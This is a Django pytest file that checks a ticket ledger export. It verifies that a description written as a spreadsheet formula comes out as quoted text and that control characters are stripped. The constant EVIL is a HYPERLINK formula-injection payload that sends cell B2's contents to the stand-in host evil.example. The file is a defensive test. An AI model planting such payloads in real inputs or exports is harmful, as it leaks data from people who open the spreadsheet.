"""Issue 9, finding 6: a ticket description that is a spreadsheet formula is exported as text, not a live formula;
finding 5 for tickets: a control character in a description does not break the ledger."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


def test_formula_in_a_description_is_exported_as_text(client, city, report):
    ticket = report(description=EVIL)
    other = report(description="坏了\u0007的路灯")
    client.force_login(city.office)
    response = client.get(reverse("inspections:ticket_export"))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells}
    assert EVIL in by_value, "the description is in the ledger, unchanged"
    assert by_value[EVIL].data_type == "s" and by_value[EVIL].quotePrefix
    assert "坏了的路灯" in by_value
    numbers = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert numbers == {ticket.number, other.number}
